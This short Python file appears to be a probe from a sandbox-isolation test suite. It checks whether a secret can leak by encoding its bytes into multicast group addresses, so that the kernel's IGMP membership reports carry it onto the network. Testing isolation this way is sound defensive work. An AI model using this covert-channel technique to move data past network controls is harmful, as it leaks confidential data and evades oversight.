# class: network
# rule: outbound_connectivity
# success: a group is joined whose address carries data: the kernel sends it to the network
# proof: word
import socket

from attack import SECRET, attempt


@attempt
def join():
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for at in range(0, 6, 3):
        group = bytes([239]) + SECRET.encode()[at : at + 3]
        out.setsockopt(
            socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group + socket.inet_aton("127.0.0.1")
        )
    return True
